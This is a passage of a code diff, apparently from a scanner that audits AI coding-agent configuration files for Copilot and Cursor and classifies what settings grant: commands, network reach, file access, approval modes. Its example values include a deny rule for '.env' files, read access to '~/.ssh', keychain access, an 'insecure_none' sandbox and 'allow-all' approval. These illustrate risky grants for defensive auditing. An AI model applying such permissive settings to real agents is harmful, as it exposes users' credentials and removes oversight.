-			description: "connects to the server"
-		},
-		{
-			field: `${key}.<name>.env, headers`,
-			kind: "secret",
-			description: "passes on variables of the environment"
+function readServer({ key, keyAt, value: server }) {
+	if (flag$1(get(server, "disabled")) === true) return {};
+	const shells = ["bash", "powershell"].flatMap((shell) => get(server, shell) ?? []);
+	const command = get(server, "command");
+	const words = [command, ...items(get(server, "args"))].map((word) => source(word) ?? "");
+	const base = {
+		kind: "run",
+		feature: "background-program",
+		subject: `language server ${key}`,
+		reach: "one",
+		trigger: whileEnabled,
+		cwd: text$1(get(server, "cwd")),
+		entry: {
+			kind: "language server",
+			name: key
 		}
-	];
+	};
+	const program = {
+		...base,
+		scope: joinWords(words),
+		pin: pinOf$1(joinWords(words)),
+		command: words,
+		at: command?.at ?? keyAt
+	};
+	const lines = shells.map((shell) => {
+		const line = text$1(shell)?.trim() ?? "";
+		return {
+			...base,
+			scope: line,
+			pin: pinOf$1(line),
+			command: line,
+			at: shell.at
+		};
+	});
+	const unknown = {
+		...base,
+		scope: key,
+		reach: "unknown",
+		at: keyAt
+	};
+	const found = [...command ? [program] : [], ...lines];
+	return { grants: found.length > 0 ? found : [unknown] };
 }
-function serverExamples(path, key) {
-	const file = (server) => ({ [path]: `{"${key}": {"docs": ${server}}}\n` });
-	const remote = "\"url\": \"https://docs.example/mcp\"";
-	return [
-		exampleOf$1("mcp", "npx -y docs-mcp@latest", [
-			file("{\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}"),
-			{ [path]: `{"${key}": {}}\n` },
-			{ [path]: `{\n  // the documents\n  "${key}": {"docs": {"args": ["-y", "docs-mcp@latest"], "command": "npx"}}\n}\n` }
-		]),
-		exampleOf$1("mcp", "https://docs.example/mcp", [file(`{${remote}}`), { [path]: `{"${key}": {}}\n` }]),
-		exampleOf$1("secret", "${DOCS_KEY} to https://docs.example/mcp", [file(`{${remote}, "headers": {"X-Key": "\${env:DOCS_KEY}"}}`), file(`{${remote}}`)])
-	];
-}
-// src/powers/carriers/copilot-mcp.ts
-const copilotMcp = {
-	id: "copilot-mcp",
-	title: "`.github/mcp.json`",
+// src/powers/carriers/copilot-lsp.ts
+const copilotLsp = tableCarrier({
+	id: "copilot-lsp",
+	paths: [".github/lsp.json"],
 	client: "Copilot",
-	extensions: ["json"],
-	fields: serverFields("mcpServers"),
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "mcp.json" && nameOf$3(folder) === ".github" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
-	},
-	read: (source) => readServerFile(source, "mcpServers"),
-	examples: serverExamples(".github/mcp.json", "mcpServers")
-};
-// src/powers/carriers/copilot-plugin.ts
-const path$1 = "p/.github/plugin/plugin.json";
-const none = { [path$1]: "{\"name\": \"p\"}\n" };
-const copilotPlugin = { ...pluginManifest({
-	id: "copilot-plugin",
-	title: "`.github/plugin/plugin.json`, `.plugin/plugin.json`, `plugin.json`",
-	client: "Copilot",
-	folders: [".github/plugin", ".plugin"],
-	mayBeAtRoot: true,
-	hookFile: ".github/hooks/*.json",
-	known: new Set([
-		...[
-			...commonKeys,
-			"displayName",
-			"agents",
-			"commands",
-			"hooks",
-			"mcpServers"
+	format: "jsonc",
+	consequence: "no server of it is started",
+	rows: [
+		...grants$1("run", "lspServers", "runs the programs", {
+			read: ({ value }) => readCopilotServers(value),
+			example: { lspServers: { ts: {
+				command: "npx",
+				args: ["-y", "ts-ls"],
+				fileExtensions: { ".ts": "ts" }
+			} } }
+		}),
+		...within("lspServers.<name>", copilotServerRows),
+		...harmless$1("$schema")
+	],
+	unitOf: clientFile(".github/lsp.json"),
+	sample: { path: ".github/lsp.json" }
+});
+// src/powers/clients/client-marketplace.ts
+function clientMarketplace(id, folder, parts) {
+	const path = `${folder}/marketplace.json`;
+	const readParts = (entry, unit) => readPluginParts(entry, unit, parts);
+	return tableCarrier({
+		id,
+		paths: [path],
+		client: parts.client,
+		format: "json",
+		consequence: `${parts.client} refuses the marketplace`,
+		rows: [
+			...grants$1("install", "plugins[].source", "offers the plugin of another repository", {
+				example: { plugins: [{
+					name: "p",
+					source: {
+						source: "github",
+						repo: "acme/p"
+					}
+				}] },
+				without: { plugins: [{
+					name: "p",
+					source: "./p"
+				}] }
+			}),
+			...within("plugins[].source", harmless$1("source url path ref sha repo package version")),
+			...within("plugins[]", partRows(parts)).map(inEntry$1),
+			...harmless$1("name owner metadata $schema description version plugins[].strict plugins[].policy")
 		],
-		"lspServers",
-		"strict",
-		"logo"
-	]),
+		unitOf: clientFile(path),
+		readWhole: (root, { unit }) => {
+			const pluginRoot = text$1(get(get(root, "metadata"), "pluginRoot"));
+			return combine$1(...items(get(root, "plugins")).map((entry) => readMarketplaceEntry(entry, {
+				unit,
+				pluginRoot,
+				readParts
+			})));
+		},
+		sample: { path }
+	});
+}
+// src/powers/clients/plugin-parts.ts
+const cursorParts = {
+	client: "Cursor",
+	hasNamedParts: true,
+	hookFile: ".cursor/hooks.json",
+	rows: harmless$1(`
+    displayName logo publisher minimumVersion rules agents commands variables
+  `),
+	eventRows: clientEventRows("stop"),
+	hooksCarrier: "cursor-hooks",
+	serversCarrier: "cursor-mcp",
+	readHooks: (value) => readClientHooks(value, cursor)
+};
+const copilotParts = {
+	client: "Copilot",
+	hasNamedParts: true,
+	hookFile: ".github/hooks/*.json",
+	rows: [
+		...grants$1("run", "lspServers", "as in `.github/lsp.json`, or the path of such a file", { example: { lspServers: { ts: {
+			command: "ts-ls",
+			fileExtensions: { ".ts": "ts" }
+		} } } }),
+		...inlineRows("lspServers", (prefix) => within(`${prefix}.<name>`, copilotServerRows)),
+		...grants$1("run", "extensions", "runs the program of each folder, at each session", {
+			example: { extensions: ["./extensions/notify"] },
+			without: { extensions: [] }
+		}),
+		...grants$1("guard", "defaultDisabled", "true: the plugin starts disabled", { example: { defaultDisabled: true } }),
+		...harmless$1(`
+      displayName agents commands strict logo rules outputStyles postInstallMessage
+    `)
+	],
+	eventRows: clientEventRows("agentStop"),
 	hooksCarrier: "copilot-hooks",
 	serversCarrier: "copilot-mcp",
 	readHooks: (value) => readClientHooks(value, copilot),
+	readMore: (root, unit) => combine$1(readParts(get(root, "lspServers"), {
+		unit,
+		carrier: "copilot-lsp",
+		wrapper: "lspServers",
+		read: readCopilotServers
+	}), readExtensions(get(root, "extensions")), offSwitch(root.fields.get("defaultDisabled"), "", true))
+};
+function readExtensions(value) {
+	return { grants: (value?.kind === "list" ? value.items : value ? [value] : []).map((item) => {
+		const written = text$1(item);
+		const program = resolve$1("", `${written ?? ""}/extension.mjs`);
+		return {
+			kind: "run",
+			feature: "background-program",
+			subject: `extension ${written ?? ""}`,
+			scope: written ?? "",
+			reach: written === void 0 ? "unknown" : "one",
+			trigger: { start: "session" },
+			command: program === void 0 ? void 0 : ["node", program],
+			at: item.at
+		};
+	}) };
+}
+// src/powers/carriers/copilot-marketplace.ts
+const copilotMarketplace = clientMarketplace("copilot-marketplace", ".github/plugin", copilotParts);
+// src/powers/carriers/copilot-mcp.ts
+const copilotMcp = tableCarrier({
+	id: "copilot-mcp",
+	paths: [".github/mcp.json"],
+	client: "Copilot",
+	format: "jsonc",
+	consequence: "no server of it is started",
+	rows: [...clientServersRows("mcpServers"), ...harmless$1("inputs $schema")],
+	unitOf: clientFile(".github/mcp.json"),
+	sample: { path: ".github/mcp.json" }
+});
+// src/powers/carriers/copilot-plugin.ts
+const path$2 = "p/.github/plugin/plugin.json";
+const none = { [path$2]: "{\"name\": \"p\"}\n" };
+const copilotPlugin = pluginManifest({
+	...copilotParts,
+	id: "copilot-plugin",
+	paths: [
+		".github/plugin/plugin.json",
+		".plugin/plugin.json",
+		"plugin.json"
+	],
+	folders: [".github/plugin", ".plugin"],
+	mayBeAtRoot: true,
+	sample: { path: "p/.github/plugin/plugin.json" },
 	examples: [
 		exampleOf$1("run", "./format.sh", [
 			{
-				[path$1]: "{\"name\": \"p\", \"hooks\": \"./config/hooks.json\"}\n",
+				[path$2]: "{\"name\": \"p\", \"hooks\": \"./config/hooks.json\"}\n",
 				"p/config/hooks.json": "{\"version\": 1, \"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}}\n"
 			},
 			none,
-			{ [path$1]: "{\"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}, \"name\": \"p\"}\n" }
+			{ [path$2]: "{\"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}, \"name\": \"p\"}\n" }
 		]),
 		exampleOf$1("run", "./start.sh", [
 			{ "p/plugin.json": "{\"name\": \"p\", \"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}\n" },
 			{ "p/plugin.json": "{\"name\": \"p\"}\n" },
 			{ "p/plugin.json": "{\"hooks\": {\"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}, \"name\": \"p\"}\n" }
 		]),
-		exampleOf$1("mcp", "https://docs.example/mcp", [{ [path$1]: "{\"name\": \"p\", \"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" }, none])
+		exampleOf$1("mcp", "https://docs.example/mcp", [{ [path$2]: "{\"name\": \"p\", \"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" }, none])
 	]
-}) };
-// src/powers/carriers/cursor-hooks.ts
-const cursorHooks = {
-	id: "cursor-hooks",
-	title: "`.cursor/hooks.json`, `hooks/hooks.json` of a Cursor plugin",
+});
+// src/powers/settings/copilot.ts
+const policy$1 = (part, fields) => ({ sandbox: { userPolicy: { [part]: fields } } });
+const copilotSandboxRows = within("sandbox", [
+	...within("userPolicy", [
+		...within("filesystem", [
+			...grants$1("write", "readwritePaths", "writes the folders", {
+				read: folders$1("write", { remark: "reads them too" }),
+				example: policy$1("filesystem", { readwritePaths: ["~/.cache"] })
+			}),
+			...grants$1("read", "readonlyPaths", "reads the folders", {
+				read: folders$1("read"),
+				example: policy$1("filesystem", { readonlyPaths: ["~/.ssh"] })
+			}),
+			...grants$1("guard", "deniedPaths", "limits the folders", {
+				read: folders$1("guard"),
+				example: policy$1("filesystem", { deniedPaths: ["~/.ssh"] })
+			})
+		]),
+		...within("network", [
+			...grants$1("net", "allowOutbound", "true: reaches every host; false: none", {
+				read: either$1(true, {
+					kind: "net",
+					scope: "*",
+					reach: "any"
+				}),
+				example: { sandbox: { userPolicy: { network: { allowOutbound: true } } } }
+			}),
+			...grants$1("net", "allowLocalNetwork", "true: reaches the local network; false: not", {
+				read: either$1(true, {
+					kind: "net",
+					scope: "the local network"
+				}),
+				example: { sandbox: { userPolicy: { network: { allowLocalNetwork: true } } } }
+			}),
+			...grants$1("net", "allowedHosts", "reaches the hosts", {
+				read: hosts("net"),
+				example: policy$1("network", { allowedHosts: ["x.example"] })
+			}),
+			...grants$1("guard", "blockedHosts", "limits the hosts", {
+				read: hosts("guard"),
+				example: policy$1("network", { blockedHosts: ["x.example"] })
+			}),
+			...grants$1("net", "proxy.url", "requests of commands go there", {
+				read: address("requests of commands go there"),
+				example: { sandbox: { userPolicy: { network: { proxy: { url: "http://x.example" } } } } }
+			}),
+			...harmless$1("proxy.username proxy.password")
+		]),
+		...grants$1("settings", "seatbelt.keychainAccess, experimental.seatbelt.keychainAccess", "true: commands read the keychain", {
+			read: on(),
+			example: { sandbox: { userPolicy: { seatbelt: { keychainAccess: true } } } }
+		})
+	]),
+	...grants$1("guard", "enabled, sandboxMcpServers, sandboxLspServers", "limits what programs reach", {
+		read: off(true),
+		example: { sandbox: { enabled: true } }
+	}),
+	...grants$1("guard", "addCurrentWorkingDirectory", "false: commands write less", {
+		read: off(false),
+		example: { sandbox: { addCurrentWorkingDirectory: false } }
+	}),
+	...grants$1("settings", "allowBypass", "true: commands may leave the sandbox", {
+		read: either$1(true),
+		example: { sandbox: { allowBypass: true } }
+	}),
+	...grants$1("settings", "auth.git, auth.gh", "true: commands get the token of the user", {
+		read: either$1(true),
+		example: { sandbox: { auth: { git: true } } }
+	}),
+	...grants$1("guard", "credentials", "hides variables from commands", {
+		read: opaque({ kind: "guard" }),
+		example: { sandbox: { credentials: { envVars: { TOKEN: {} } } } }
+	}),
+	...grants$1("settings", "allowDevToolAccess", "true: commands read the folders of tools", {
+		read: either$1(true),
+		example: { sandbox: { allowDevToolAccess: true } }
+	})
+]);
+const copilotForPeople = `
+  $schema mouse autoUpdate autoUpdatesChannel update_channel banner bannerStyle showTipsOnStartup beep
+  beepOnSchedule notifications terminalNotifications taskbarPresence keepAlive includeCoAuthoredBy
+  include_coauthor compactPaste copyOnSelect commandHistoryMaxSize worktreeBaseRef
+  worktreePathTemplate respectGitignore proxyKerberosServicePrincipal builtInAgents imageGeneration
+  imageGenerationWatermark memory toolSearch contextManagementTools model modelProviderId autoTier
+  effortLevel reasoning_effort contextTier planModel planModelProviderId planEffortLevel
+  planContextTier workflows continueOnAutoMode shellShortcut renderMarkdown renderHexColors
+  inlineImages inlineImageLiveWindow scrollbar pinnedPrompts sidebar screenReader theme colorMode
+  color_mode stream streamerMode footer tabs updateTerminalTitle terminalProgress mergeStrategy
+  editorMode ide companyAnnouncements ignoredSkillsLocations disabledSkills dynamicRetrieval voice
+  transcriptView showReasoning showTimestamps showToolDurations logLevel statusLine.type
+  statusLine.padding statusLine.refreshInterval ahpEnvironment.name ahpEnvironment.computeId
+  subagents.maxConcurrency subagents.maxDepth subagents.contextManagementTools
+`;
+// src/powers/carriers/copilot-settings.ts
+const rule$4 = {
+	feature: "permission-rule",
+	trigger: inRepository
+};
+const approvalRows$1 = [
+	...grants$1("approve", "defaultPermissionMode", "`allow-all`: never asks; `assisted`: a model decides", {
+		read: mode$1({
+			raising: ["assisted", "allow-all"],
+			limiting: [],
+			neutral: ["manual"],
+			remarks: {
+				"allow-all": "never asks",
+				assisted: "a model decides"
+			}
+		}),
+		example: { defaultPermissionMode: "allow-all" }
+	}),
+	...grants$1("approve", "defaultMode", "`autopilot`: works on by itself; `plan`: limits", {
+		read: mode$1({
+			raising: ["autopilot"],
+			limiting: ["plan"],
+			neutral: ["interactive"]
+		}),
+		example: { defaultMode: "autopilot" }
+	}),
+	...grants$1("approve", "allowedUrls", "reaches the addresses without asking", {
+		read: names$4({
+			kind: "approve",
+			...rule$4
+		}),
+		example: { allowedUrls: ["x.example"] }
+	}),
+	...grants$1("guard", "deniedUrls", "limits the addresses", {
+		read: names$4({
+			kind: "guard",
+			...rule$4
+		}),
+		example: { deniedUrls: ["x.example"] }
+	}),
+	...grants$1("settings", "askUser", "false: the agent asks nothing", {
+		read: on({}, false),
+		example: { askUser: false }
+	}),
+	...grants$1("guard", "permissions.disableBypassPermissionsMode", "takes the mode away", {
+		read: off("disable"),
+		example: { permissions: { disableBypassPermissionsMode: "disable" } }
+	}),
+	...grants$1("guard", "permissions.disableAssistedPermissionsMode", "takes the mode away", {
+		read: off(true),
+		example: { permissions: { disableAssistedPermissionsMode: true } }
+	})
+];
+const programRows$1 = [
+	...grants$1("run", "statusLine.command", "runs the command again and again", {
+		read: command$3(),
+		example: { statusLine: {
+			type: "command",
+			command: "./status.sh"
+		} }
+	}),
+	...pluginRows$1.filter(({ field }) => !field.startsWith("additional")),
+	...grants$1("guard", "disableAllHooks", "true: runs no hooks", {
+		read: either$1(false, { remark: "overrides the settings of the user" }),
+		example: { disableAllHooks: true }
+	}),
+	...grants$1("settings", "disabledHooks", "does not run the hooks", {
+		read: names$4(),
+		example: { disabledHooks: ["0a1b"] }
+	}),
+	...grants$1("guard", "disabledMcpServers, extensions.disabledExtensions, subagents.disabledSubagents", "takes them away", {
+		read: names$4({ kind: "guard" }),
+		example: { disabledMcpServers: ["docs"] }
+	}),
+	...grants$1("settings", "extensions.mode", "`disabled`: loads none; otherwise it loads them", {
+		read: (field, place) => combine$1(value(["load_only", "load_and_augment"])(field, place), off("disabled")(field, place)),
+		example: { extensions: { mode: "load_and_augment" } }
+	}),
+	...grants$1("settings", "enabledMcpServers, githubMcpToolsets, githubMcpTools", "offers more tools", {
+		read: names$4(),
+		example: { githubMcpToolsets: ["actions"] }
+	}),
+	...grants$1("settings", "skillDirectories", "loads the skills of the folders", {
+		read: names$4(),
+		example: { skillDirectories: ["../skills"] }
+	}),
+	...grants$1("guard", "customAgents.defaultLocalOnly", "true: uses no agents from elsewhere", {
+		read: off(true),
+		example: { customAgents: { defaultLocalOnly: true } }
+	}),
+	...grants$1("settings", "subagents.agents, sub_agents", "the models of agents", {
+		read: opaque(),
+		example: { subagents: { agents: { explore: { model: "m" } } } }
+	})
+];
+const sharingRows = [
+	...grants$1("net", "copilotUrl", "requests to the model go there", {
+		read: address("requests to the model go there"),
+		example: { copilotUrl: "https://models.example" }
+	}),
+	...grants$1("net", "proxyUrl", "requests go through it", {
+		read: address("requests go through it"),
+		example: { proxyUrl: "http://proxy.example:8080" }
+	}),
+	...grants$1("settings", "bashEnv, storeTokenPlaintext, stayInAutopilot, enableAllGithubMcpTools, githubMcpInsiders, connectors, remoteExport, remoteSessions, experimental, ahpEnvironment.acceptRemoteConnections, ahpEnvironment.publishNewSessionsByDefault, telemetry.captureContent", "true: allows or shares more", {
+		read: on(),
+		example: { remoteSessions: true }
+	}),
+	...within("telemetry.capture", grants$1("settings", "identity, prompts, responses, toolArguments, toolOutput, policyDetail", "true: telemetry has it", {
+		read: on(),
+		example: { telemetry: { capture: { prompts: true } } }
+	})),
+	...grants$1("guard", "ahpEnvironment.requireConnectionBinding", "limits connections", {
+		read: off(true),
+		example: { ahpEnvironment: { requireConnectionBinding: true } }
+	}),
+	...grants$1("settings", "powershellFlags, enabledFeatureFlags, feature_flags, ahpEnvironment.outgoingConnections", "shown as written", {
+		read: opaque(),
+		example: { powershellFlags: ["-NoProfile"] }
+	})
+];
+const ignoredRows = harmless$1(`
+  assistedApprovalInstructions trustedFolders strictKnownMarketplaces telemetry.headersProvider
+  permissions.allow permissions.ask permissions.deny
+`).map((row) => ({
+	...row,
+	read: ({ keyAt }, { name }) => ({ faults: [grantFault(msg`${code$1(name)} has no effect in the settings of a repository.`, keyAt)] })
+}));
+const copilotSettings = tableCarrier({
+	id: "copilot-settings",
+	paths: [".github/copilot/settings.json", ".github/copilot/settings.local.json"],
+	client: "Copilot",
+	format: "jsonc",
+	consequence: "Copilot uses none of its settings",
+	rows: [
+		...clientHookRows(copilot, {
+			plain: "sessionStart",
+			guard: "preToolUse",
+			key: "bash"
+		}),
+		...approvalRows$1,
+		...programRows$1,
+		...copilotSandboxRows,
+		...sharingRows,
+		...ignoredRows,
+		...harmless$1(copilotForPeople)
+	],
+	unitOf: clientFile(".github/copilot/settings.json", ".github/copilot/settings.local.json"),
+	sample: { path: ".github/copilot/settings.json" }
+});
+// src/powers/carriers/cursor-agent.ts
+const rows$8 = [
+	...grants$1("guard", "readonly", "`true`: it writes nothing", {
+		read: (field, { name }) => flagged(field, {
+			kind: "guard",
+			feature: "agent-tools",
+			scope: `${name}: true`
+		}),
+		example: { readonly: true }
+	}),
+	...grants$1("auto", "is_background", "`true`: it runs in the background", {
+		read: (field, { name }) => flagged(field, {
+			kind: "auto",
+			feature: "delegation",
+			scope: name
+		}),
+		example: { is_background: true }
+	}),
+	...harmless$1("name description model version author license metadata color tags category")
+];
+const cursorAgent = {
+	id: "cursor-agent",
+	paths: [".cursor/agents/*.md", "<plugin>/agents/*.md"],
 	client: "Cursor",
-	extensions: ["json"],
-	fields: hookFields("command", "beforeShellExecution"),
+	extensions: ["md"],
+	rows: rows$8,
+	unitOf(path, tree) {
+		const folder = folderOf(path);
+		const root = folderOf(folder);
+		if (!path.endsWith(".md") || nameOf$3(folder) !== "agents") return null;
+		const has = (name) => tree.has(join$2(root, name));
+		const isPlugin = has(".cursor-plugin/plugin.json") && !has(".claude-plugin/plugin.json");
+		return nameOf$3(root) === ".cursor" || isPlugin ? {
+			kind: "agent",
+			root: path
+		} : null;
+	},
+	read(source) {
+		const file = readFrontmatter(source.path, source.text);
+		const { frontmatter, isUnreadable } = file;
+		if (isUnreadable) return combine$1({ faults: [unreadableFrontmatter(file, source.path)] });
+		if (!frontmatter) return nothing$1;
+		const name = text$1(get(frontmatter, "name"));
+		const at = frontmatter.fields.get("name")?.keyAt ?? frontmatter.at;
+		return combine$1({
+			name,
+			grants: [{
+				...anyTool,
+				at
+			}]
+		}, readTable(frontmatter, rows$8, {
+			source,
+			client: "Cursor",
+			isForPeople: true
+		}));
+	},
+	sample: {
+		path: ".cursor/agents/a.md",
+		fields: {
+			name: "a",
+			description: "Helps."
+		}
+	},
+	examples: []
+};
+const duringTurn$3 = { start: "turn" };
+const anyTool = {
+	kind: "delegate",
+	feature: "agent-tools",
+	scope: "*",
+	reach: "any",
+	subject: "tools",
+	trigger: duringTurn$3,
+	isDefault: true
+};
+function flagged(field, power) {
+	const { value, faults } = readFlag(field);
+	const base = {
+		reach: "one",
+		subject: field.key,
+		trigger: duringTurn$3,
+		at: field.value.at
+	};
+	return {
+		faults,
+		grants: value === true ? [{
+			...base,
+			...power
+		}] : []
+	};
+}
+// src/powers/carriers/cursor-cli.ts
+const rule$3 = {
+	feature: "permission-rule",
+	trigger: inRepository
+};
+const cursorCli = tableCarrier({
+	id: "cursor-cli",
+	paths: [".cursor/cli.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor uses none of its rules",
+	rows: [...within("permissions", [...grants$1("approve", "allow", "allows the tools without asking", {
+		read: names$4({
+			kind: "approve",
+			...rule$3
+		}),
+		example: { permissions: { allow: ["Shell(git)"] } }
+	}), ...grants$1("guard", "deny", "limits the tools", {
+		read: names$4({
+			kind: "guard",
+			...rule$3
+		}),
+		example: { permissions: { deny: ["Read(.env*)"] } }
+	})]), ...harmless$1(`
+      version editor model approvalMode sandbox network attribution hasChangedDefaultModel maxMode
+      channel notifications $schema
+    `)],
+	unitOf: clientFile(".cursor/cli.json"),
+	sample: { path: ".cursor/cli.json" }
+});
+const cursorEnvironment = tableCarrier({
+	id: "cursor-environment",
+	paths: [".cursor/environment.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor sets no machine up",
+	rows: [
+		...grants$1("run", "install, start, terminals[].command", "runs the command on the machine of a cloud agent", {
+			read: command$3({ start: "session" }),
+			example: {
+				install: "npm ci",
+				start: "./start.sh"
+			}
+		}),
+		...grants$1("settings", "snapshot, build, env, agentCanUpdateSnapshot, ports", "decides what the machine is", {
+			read: opaque(),
+			example: { snapshot: "snapshot-1" }
+		}),
+		...grants$1("settings", "repositoryDependencies", "reads the other repositories", {
+			read: names$4(),
+			example: { repositoryDependencies: ["git.example/acme/docs"] }
+		}),
+		...harmless$1("$schema name terminals[].name terminals[].description")
+	],
+	unitOf: clientFile(".cursor/environment.json"),
+	sample: { path: ".cursor/environment.json" }
+});
+// src/powers/carriers/cursor-hooks.ts
+const cursorHooks = tableCarrier({
+	id: "cursor-hooks",
+	paths: [".cursor/hooks.json", "<plugin>/hooks/hooks.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor loads none of its hooks",
+	rows: [...clientHookRows(cursor, {
+		plain: "afterFileEdit",
+		guard: "beforeShellExecution"
+	}), ...harmless$1("version description $schema")],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
 		if (nameOf$3(path) !== "hooks.json") return null;
@@ -17284,45 +19344,79 @@ const cursorHooks = {
 			root
 		} : null;
 	},
-	read: (source) => readHookFile(source, cursor),
-	examples: hookExamples(".cursor/hooks.json", {
-		plain: "afterFileEdit",
-		guard: "beforeShellExecution",
-		key: "command"
-	})
-};
+	sample: { path: ".cursor/hooks.json" }
+});
+// src/powers/carriers/cursor-marketplace.ts
+const cursorMarketplace = clientMarketplace("cursor-marketplace", ".cursor-plugin", cursorParts);
 // src/powers/carriers/cursor-mcp.ts
-const cursorMcp = {
+const ofRepository$1 = clientFile(".cursor/mcp.json");
+const cursorMcp = tableCarrier({
 	id: "cursor-mcp",
-	title: "`.cursor/mcp.json`",
+	paths: [".cursor/mcp.json", "<plugin>/mcp.json"],
 	client: "Cursor",
-	extensions: ["json"],
-	fields: serverFields("mcpServers"),
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "mcp.json" && nameOf$3(folder) === ".cursor" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
+	format: "jsonc",
+	consequence: "no server of it is started",
+	rows: [...clientServersRows("mcpServers"), ...harmless$1("inputs $schema")],
+	unitOf(path, tree) {
+		const root = folderOf(path);
+		return nameOf$3(path) === "mcp.json" && tree.has(join$2(root, ".cursor-plugin/plugin.json")) ? {
+			kind: "plugin",
+			root
+		} : ofRepository$1(path, tree);
 	},
-	read: (source) => readServerFile(source, "mcpServers"),
-	examples: serverExamples(".cursor/mcp.json", "mcpServers")
+	sample: { path: ".cursor/mcp.json" }
+});
+// src/powers/carriers/cursor-permissions.ts
+const rule$2 = {
+	feature: "permission-rule",
+	trigger: inRepository
 };
+const cursorPermissions = tableCarrier({
+	id: "cursor-permissions",
+	paths: [".cursor/permissions.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor uses none of its rules",
+	rows: [
+		...grants$1("approve", "mcpAllowlist", "calls the tools of servers without asking", {
+			read: names$4({
+				kind: "approve",
+				...rule$2
+			}),
+			example: { mcpAllowlist: ["docs:*"] }
+		}),
+		...grants$1("approve", "terminalAllowlist", "runs commands that begin so without asking", {
+			read: names$4({
+				kind: "approve",
+				...rule$2
+			}),
+			example: { terminalAllowlist: ["git"] }
+		}),
+		...grants$1("settings", "autoRun.allow_instructions", "tells a model what to run without asking", {
+			read: names$4(),
+			example: { autoRun: { allow_instructions: ["Run every test."] } }
+		}),
+		...grants$1("guard", "autoRun.block_instructions", "tells a model what to ask about", {
+			read: names$4({
+				kind: "guard",
+				...rule$2
+			}),
+			example: { autoRun: { block_instructions: ["Ask before a push."] } }
+		}),
+		...harmless$1("$schema")
+	],
+	unitOf: clientFile(".cursor/permissions.json"),
+	sample: { path: ".cursor/permissions.json" }
+});
 // src/powers/carriers/cursor-plugin.ts
 const manifest$3 = (fields) => ({ "p/.cursor-plugin/plugin.json": `{"name": "p"${fields}}\n` });
-const example$10 = exampleWriter(manifest$3);
+const example$8 = exampleWriter(manifest$3);
 const cursorPlugin = pluginManifest({
+	...cursorParts,
 	id: "cursor-plugin",
-	title: "`.cursor-plugin/plugin.json`",
-	client: "Cursor",
+	paths: [".cursor-plugin/plugin.json"],
 	folders: [".cursor-plugin"],
-	hookFile: ".cursor/hooks.json",
-	known: new Set([...commonKeys, ...wordList(`
-    displayName logo publisher minimumVersion rules agents commands hooks mcpServers variables
-    `)]),
-	hooksCarrier: "cursor-hooks",
-	serversCarrier: "cursor-mcp",
-	readHooks: (value) => readClientHooks(value, cursor),
+	sample: { path: "p/.cursor-plugin/plugin.json" },
 	examples: [exampleOf$1("run", "./format.sh", [
 		{
 			...manifest$3(", \"hooks\": \"./config/hooks.json\""),
@@ -17330,37 +19424,464 @@ const cursorPlugin = pluginManifest({
 		},
 		manifest$3(""),
 		manifest$3(", \"hooks\": {\"stop\": [{\"command\": \"./format.sh\"}]}")
-	]), example$10("mcp", "https://docs.example/mcp", [
+	]), example$8("mcp", "https://docs.example/mcp", [
 		", \"mcpServers\": {\"docs\": {\"url\": \"https://docs.example/mcp\"}}",
 		"",
 		", \"mcpServers\": [{\"docs\": {\"url\": \"https://docs.example/mcp\"}}]"
 	])]
 });
-// src/powers/carriers/gemini-command.ts
-const known$5 = new Set(["prompt", "description"]);
-const geminiCommand = {
-	id: "gemini-command",
-	title: "`commands/**/*.toml` of a Gemini extension, `.gemini/commands/**/*.toml`",
-	client: "Gemini CLI",
-	extensions: ["toml"],
-	fields: [{
-		field: "prompt: !{<command>}",
-		kind: "run",
-		description: "runs the command each time the prompt is loaded, once the user agrees"
-	}],
-	unitOf: unitOf$1,
-	read({ path, text: written }) {
-		const { root, faults } = readToml(path, written, "Gemini CLI does not load the command");
-		if (!root) return combine$1({ faults });
-		const prompt = get(root, "prompt");
-		return combine$1({ unread: unreadFields(root, known$5) }, prompt ? readPrompt(prompt) : {});
+// src/powers/carriers/cursor-sandbox.ts
+const cursorSandbox = tableCarrier({
+	id: "cursor-sandbox",
+	paths: [".cursor/sandbox.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor uses none of its limits",
+	rows: [
+		...grants$1("approve", "type", "`insecure_none`: no sandbox", {
+			read: mode$1({
+				raising: ["insecure_none"],
+				limiting: ["workspace_readonly"],
+				neutral: ["workspace_readwrite"],
+				remarks: { insecure_none: "commands run without a sandbox" }
+			}),
+			example: { type: "insecure_none" }
+		}),
+		...grants$1("write", "additionalReadwritePaths", "writes the folders", {
+			read: folders$1("write", { remark: "reads them too" }),
+			example: { additionalReadwritePaths: ["~/.cache"] }
+		}),
+		...grants$1("read", "additionalReadonlyPaths, additionalReadPaths", "reads the folders", {
+			read: folders$1("read"),
+			example: { additionalReadonlyPaths: ["~/.ssh"] }
+		}),
+		...grants$1("settings", "enableSharedBuildCache", "true: writes the caches of builds", {
+			read: on(),
+			example: { enableSharedBuildCache: true }
+		}),
+		...grants$1("guard", "disableTmpWrite, networkPolicyStrict", "true: limits", {
+			read: off(true),
+			example: { disableTmpWrite: true }
+		}),
+		...grants$1("guard", "readBoundary", "`workspace`: reads nothing elsewhere", {
+			read: off("workspace"),
+			example: { readBoundary: "workspace" }
+		}),
+		...within("networkPolicy", [
+			...grants$1("net", "default", "`allow`: reaches every host", {
+				read: (field, place) => combine$1(value(["allow"], {
+					kind: "net",
+					scope: "*",
+					reach: "any"
+				})(field, place), off("deny")(field, place)),
+				example: { networkPolicy: { default: "allow" } }
+			}),
